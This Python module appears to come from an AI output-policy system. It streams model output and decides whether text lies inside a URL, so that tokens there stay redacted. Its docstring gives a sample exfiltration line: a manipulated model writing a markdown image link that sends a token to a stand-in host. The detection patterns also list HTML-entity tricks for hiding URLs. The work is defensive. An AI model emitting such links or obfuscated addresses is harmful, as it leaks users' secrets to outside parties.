"""Whether a growing text stands inside an address: there a token stays a token.

A model that was talked into it could write `![](https://elsewhere.example/?q=TOKEN)`; the client would fetch that
address with the value in it. Where only an address can stand (a link's destination, `src="..."`) it doesn't matter how
one is spelt; elsewhere its signs tell it. When in doubt it counts as inside: the price is a token that a person sees.
"""

from __future__ import annotations

from collections.abc import Mapping
from typing import Final

from policies.detectors.keywords import Strings
from policies.transform.redact import unescaped

_BLANKS: Final = " \t\r\n\f\v"
_SPACES: Final = _BLANKS + "\0"  # the last stands between texts that are looked at together
_ENDS: Final = frozenset(_SPACES + '<>"')
_FRONTS: Final = _ENDS | frozenset("'`(=[{,;|")
_QUOTES: Final = frozenset("\"'`")
_SCHEME: Final = frozenset("abcdefghijklmnopqrstuvwxyz0123456789+.-")
_BRACKETED: Final = {"<": frozenset(">\n\0")}  # `](<...>)` may hold spaces
_QUOTED: Final = {'"': frozenset('"\0'), "'": frozenset("'\0")}

# What programs that read addresses take for one another.
_FOLDED: Final = str.maketrans("ABCDEFGHIJKLMNOPQRSTUVWXYZ\\", "abcdefghijklmnopqrstuvwxyz/")

_ATTRIBUTES: Final = frozenset(
    ("src", "href", "srcset", "poster", "data", "action", "formaction", "style", "background", "ping")
)
# References of HTML to the signs that make an address: nobody spells those so but to hide one.
_REFERENCES: Final = (
    "&colon", "&sol", "&bsol", "&quest", "&num;", "&period", "&commat", "&#0", "&#x0",
    *(f"&#{ord(sign)}" for sign in ":/\\?#.@"), *(f"&#x{ord(sign):x}" for sign in ":/\\?#.@"),
)  # fmt: skip
_PLACES: Final = ("](", "]:", "url(", "=")
_SIGNS: Final = ("//", ":/", "/", "?", "#", "www.", "http:", "https:", "ftp:", "ws:", "wss:", *_PLACES, *_REFERENCES)
_FOUND: Final = Strings(_SIGNS)
_BACK: Final = 80  # letters in front of a sign that are looked at
_KEPT: Final = _BACK + max(map(len, _SIGNS))
_FILLER: Final = "\u200b"

Opening = Mapping[str, frozenset[str]]


class Addresses:
    """Follows one text. inside: whether what comes next belongs to an address.

    source: the text is the source of JSON, whose escapes are looked through. string: it is a string by itself, as if a
    quote stood before it.
    """

    __slots__ = ("_ends", "_escape", "_opening", "_tail", "inside", "source")

    def __init__(self, *, source: bool = False, string: bool = False) -> None:
        self.inside = False
        self.source = source
        self._ends = _ENDS
        self._opening: Opening | None = None  # what may begin here to tell where the address ends
        self._escape = ""
        self._tail = '"' if string else "\n"

    def feed(self, text: str) -> None:
        """What the client sees next."""
        if self.source:
            text = self._escape + text
            seen = unescaped(text)
            self._escape = text[len(seen) :]
            text = seen.replace(_FILLER, "")
        before = len(self._tail)
        seen = self._tail + text.translate(_FOLDED)
        begun, places = _signs(seen, before)
        at, next_sign = before, 0
        while at < len(seen):
            if self.inside:
                at = self._leave(seen, at, places)
                continue
            while next_sign < len(begun) and begun[next_sign][1] <= at:
                next_sign += 1
            if next_sign == len(begun):
                break
            start, at = begun[next_sign]
            self.inside = True
            self._opening = places.get(at)
            self._ends = _ENDS if self._opening is not None else _ended_by(seen, start)
        self._tail = seen[-_KEPT:]

    def _leave(self, seen: str, at: int, places: Mapping[int, Opening]) -> int:
        """Go on to where the address ends."""
        for place in range(at, len(seen)):
            if self._ends is _ENDS and place > at and place in places:
                self._opening = places[place]
            letter = seen[place]
            if self._opening is not None:
                if letter in _BLANKS:
                    continue
                opening, self._opening = self._opening, None
                if letter in opening:
                    self._ends = opening[letter]
                    continue
            if letter not in self._ends:
                continue
            if letter in _QUOTES and letter != '"':
                self._ends = _ENDS  # it may still be a letter of the address
            else:
                self.inside = False
                return place
        if self._ends is _ENDS and len(seen) in places:
            self._opening = places[len(seen)]
        return len(seen)


def _signs(seen: str, before: int) -> tuple[list[tuple[int, int]], dict[int, Opening]]:
    """Where signs of an address stand that end behind `before`, by end; and which ends may open a quote or bracket."""
    begun: list[tuple[int, int]] = []
    places: dict[int, Opening] = {}
    for number, start, end in _FOUND.find(seen):
        if end <= before or not _begins(seen, _SIGNS[number], start):
            continue
        begun.append((start, end))
        if _SIGNS[number] in _PLACES:
            places[end] = _QUOTED if _SIGNS[number] in ("=", "url(") else _BRACKETED
    return begun, places


def _begins(seen: str, sign: str, start: int) -> bool:
    """Whether a sign that stands at `start` begins an address."""
    front = seen[start - 1 : start]
    if sign == "=":
        return _word_before(seen, start) in _ATTRIBUTES
    if sign in ("/", "?", "#"):
        return _after_host(seen, start)
    if sign == "//":
        return front == ":" or front in _FRONTS
    if sign == ":/":
        return front in _SCHEME and seen[start - 2 : start - 1] in _SCHEME
    return sign in _PLACES or sign in _REFERENCES or front not in _SCHEME


def _word_before(seen: str, place: int) -> str:
    """The word that ends right before `place`, spaces apart, as names of attributes go."""
    word = seen[max(place - _BACK, 0) : place].rstrip(_BLANKS)
    at = len(word)
    while at > 0 and (word[at - 1].isalnum() or word[at - 1] in "_-"):
        at -= 1
    return word[at:]


def _after_host(seen: str, place: int) -> bool:
    """Whether the name of a host stands right before `place`, as the first thing of a word: `a.example/`."""
    first = max(place - _BACK, 0)
    at = place
    while at > first and seen[at - 1] not in _FRONTS and seen[at - 1] != "/":
        at -= 1
    if seen[at - 1 : at] == "/":
        return False
    user, signed, host = seen[at:place].rpartition("@")
    host, colon, port = host.rpartition(":") if ":" in host else (host, "", "")
    if colon and not port.isdigit():
        return ":" in host and port.endswith("]")
    return _is_host(host, named=bool((signed and user) or colon))


def _is_host(host: str, *, named: bool) -> bool:
    """Whether this is a host's name or number. named: a port or a user says that it is one."""
    labels = host.removesuffix(".").split(".")
    if not all(label and all(c.isalnum() or c in "-_" for c in label) for label in labels):
        return False
    if all(label.isdigit() for label in labels):
        return len(labels) == 4 or (len(labels) == 1 and len(host) >= 8)
    last = labels[-1]
    if len(labels) == 1:
        return named or last.startswith("0x")
    return len(last) > 1 and (last.isalpha() or last.startswith("xn--"))


def _ended_by(seen: str, place: int) -> frozenset[str]:
    """What ends an address whose sign stands at `place`; after a quote it may hold spaces up to the next quote."""
    at, first = place - 1, max(place - _BACK, 0)
    while at > first and (seen[at] in _SCHEME or seen[at] == ":"):
        at -= 1
    quote = seen[at] if at >= 0 else " "
    return frozenset((quote, "\n")) if quote in _QUOTES else _ENDS
